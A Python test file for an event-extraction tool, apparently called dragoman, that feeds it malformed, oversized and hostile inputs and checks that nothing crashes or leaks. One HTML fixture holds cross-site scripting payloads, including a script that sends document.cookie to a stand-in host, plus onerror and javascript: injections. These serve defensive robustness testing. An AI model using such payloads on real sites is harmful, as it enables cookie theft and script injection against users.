"""The whole road on input that is broken, huge, or meant to harm: nothing is raised, nothing else is lost, nothing changes.

The coder is the real one. Each hostile file has a plain one beside it, whose events must come out as if it were alone.
"""

import json
import random
import time
from importlib.resources import files
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner

from dragoman import workers
from dragoman.cli import dragoman_command
from dragoman.intake import read_documents
from dragoman.record import open_record
from dragoman.types import Document, Reading, Rejected
from dragoman.workers import code_documents, load_coder

GOOD = "On 3 June 1929 Peru signed a treaty with Chile. Bolivia protested to Peru on 5 June 1929."
SCRIPTS = """<html><head><title>Treaty of Lima</title><script>fetch("http://x.example/?" + document.cookie)</script></head><body>
<article><p onclick="steal()">On 3 June 1929 Peru signed a treaty with Chile, and both governments praised it at some length.</p>
<iframe src="javascript:alert(1)"></iframe><p>The treaty settled the question of Tacna and Arica, which had divided the two
countries since the war. <img src=x onerror="alert('Brazil invaded Paraguay')"></p></article>
<script>document.write("Brazil attacked Paraguay on 4 June 1929.")</script></body></html>"""

CONTROLS = "".join(map(chr, range(0xA0))) + GOOD + "\u2028\u0085\ufeff\U000e0001"

HOSTILE = {
    "empty.txt": b"",
    "blank.txt": b" \n\t\r\n \x0c",
    "binary.txt": bytes(range(256)) * 40,
    "picture.txt": b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
    "broken-utf8.txt": GOOD.encode() + " Türkiye – Côte d’Ivoire ".encode() + b"\xff\xfe\xc3( \xe2\x82 ended.",
    "utf16.txt": GOOD.encode("utf-16"),
    "scripts.html": SCRIPTS.encode(),
    "bomb.html": b"<div>" * 200_000 + b"Peru" + b"<table><tr><td>" * 1000,
    "bomb.jsonl": b'{"text": "Peru wrote.", "x": ' + b"[" * 500_000 + b'\n{"a":' * 1000,
    "rows.jsonl": b'[1]\n"text"\nnull\n{"text": 4}\n{"text": "\\ud83d"}\n{"id": "kept", "text": "' + GOOD.encode() + b' So"}\n',
    "quotes.csv": b'id,text\n1,"' + b'""' * 50_000 + b'\n2,"x\n',
    "marks.txt": "\u202eOn 3 June 1929 \u200fPeru\u200f signed a\x07 treaty \u2066with\u2069 Chile\x1b[2J.".encode(),
    "controls.jsonl": json.dumps({"id": "controls", "text": CONTROLS}).encode(),
    "quotation.txt": b'"' * 20_000 + b" Peru " + b"'(" * 20_000,
    "commas.txt": b"Peru, Chile, " * 1_000,
    "initials.txt": b"U.S. " * 4_000,
    "dates.txt": b"1 May 1 May 1929-1930-1931-" * 500,
    "combining.txt": ("Peru" + "\u0301" * 20_000 + " attacked Chile").encode(),
    "emoji.txt": ("Peru \U0001f1f5\U0001f1ea\u200d\U0001f468\u200d\U0001f469 " * 400 + GOOD).encode(),
}  # fmt: skip


@pytest.fixture(scope="module")
def coder():
    return load_coder()


@pytest.fixture(scope="module")
def answers(coder, tmp_path_factory):
    """What comes of the folder of hostile files, of a plain file in it, and of one that is not there."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, content in HOSTILE.items():
        (folder / name).write_bytes(content)
    (folder / "good.txt").write_text(GOOD)
    (folder / "loop").symlink_to(folder)
    return read_all([folder, folder / "gone.txt"], coder)


def read_all(paths, coder):
    return list(code_documents(read_documents(map(str, paths)), make_coder=lambda: coder))


def test_hostile_folder_costs_only_what_cannot_be_read(answers, coder):
    reasons = sorted(answer.reason for answer in answers if isinstance(answer, Rejected))
    assert not {"coder failed", "crashed the coder"} & set(reasons)
    assert {"empty", "binary file", "broken JSON", "not an object", "wrong type", "broken CSV", "folder loop", "missing"} <= set(
        reasons
    )
    readings = [answer for answer in answers if isinstance(answer, Reading)]
    for reading in readings:
        for event in reading.events:
            assert event.evidence.text == reading.document.text[event.evidence.start : event.evidence.end]
            msgspec.json.encode(event)
    kept = {reading.document.id: reading for reading in readings}["kept"]
    assert describe(kept) == describe(coder(Document("alone", f"{GOOD} So")))
    assert len(kept.events) >= 2
    page = next(reading for reading in readings if reading.document.title == "Treaty of Lima")
    assert "Brazil" not in page.document.text
    assert page.events


def describe(reading):
    """What a reading says, without the ids, which hold that of the document."""
    return [
        (event.type, event.date, [who.code for who in event.actors], [who.code for who in event.recipients], event.evidence)
        for event in reading.events
    ]


def test_hostile_readings_go_into_a_record_and_come_out_of_it(answers, tmp_path):
    readings = [answer for answer in answers if isinstance(answer, Reading)]
    with open_record(tmp_path / "r.duckdb") as record:
        run = record.begin_run({}, "1", {})
        record.add(readings, [answer for answer in answers if isinstance(answer, Rejected)], run)
        kept = sorted(event.id for event in record.events())
    assert kept == sorted(event.id for reading in readings for event in reading.events)


@pytest.mark.parametrize(("filler", "size"), [("lorem ipsum ", 5_000_000), ("x", 5_000_000), ("a.b.c.", 500_000), ("(", 500_000)])
def test_megabytes_in_one_line(coder, filler, size):
    text = filler * (size // len(filler))
    began = time.monotonic()
    reading = coder(Document("big", f"{text} {GOOD}"))
    assert time.monotonic() - began < 20
    assert any(event.type and event.evidence.text in GOOD for event in reading.events)


def make_letters(n):
    states = ["Peru", "Chile", "Bolivia", "Ecuador", "Brazil", "Uruguay"]
    acts = ["signed a treaty with", "sent an envoy to", "recalled its ambassador from", "promised aid to", "attacked"]
    chance = random.Random(1929)
    rows = []
    for i in range(n):
        a, b, c = chance.sample(states, 3)
        sentences = [
            f"On {chance.randint(1, 28)} June {chance.randint(1880, 1990)} {a} {chance.choice(acts)} {b}." for _ in range(3)
        ]
        sentences.append(f"The two countries then {chance.choice(acts)} {c}, according to its foreign minister.")
        rows.append({"id": f"letter-{i}", "text": " ".join(sentences) + " The weather was fine." * 40})
    return rows


def read_by_command(rows, *words):
    """Lines that `dragoman read` prints, from a file `rows.jsonl` in the current folder."""
    Path("rows.jsonl").write_text("\n".join(map(json.dumps, rows)))
    result = CliRunner().invoke(dragoman_command, ["read", "rows.jsonl", "--format", "jsonl", *words])
    assert result.exit_code == 0, result.stderr
    return result.stdout.splitlines()


def test_workers_order_and_a_second_reading_change_nothing(coder, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rows = make_letters(32)
    assert sum(len(row["text"]) for row in rows) > workers.WORTH_A_PROCESS
    two_workers = read_by_command(rows, "--record", ":memory:", "--workers", "2")  # each loads the real coder
    monkeypatch.setattr(workers, "load_coder", lambda gazetteers: coder)
    first = read_by_command(rows, "--record", "r.duckdb", "--workers", "1")
    assert len(first) > 50
    assert two_workers == first
    random.Random(7).shuffle(rows)
    assert sorted(read_by_command(rows, "--record", "r.duckdb", "--workers", "1")) == sorted(first)
    events = [json.loads(line)["id"] for line in first if line.startswith('{"kind":"event"')]
    with open_record(tmp_path / "r.duckdb", read_only=True) as record:
        assert sorted(event.id for event in record.events()) == sorted(events)


def test_samples_are_read_without_a_defect_and_every_offset_holds(coder):
    folder = Path(str(files("dragoman"))) / "data/samples"
    answers = read_all([folder], coder)
    assert len(answers) >= 6
    for reading in answers:
        assert isinstance(reading, Reading), reading
        text = reading.document.text
        assert reading.events
        for event in reading.events:
            assert text[event.evidence.start : event.evidence.end] == event.evidence.text
            for who in (*event.actors, *event.recipients):
                assert text[who.start : who.end] == who.text
        for stance in reading.stances:
            assert text[stance.evidence.start : stance.evidence.end] == stance.evidence.text
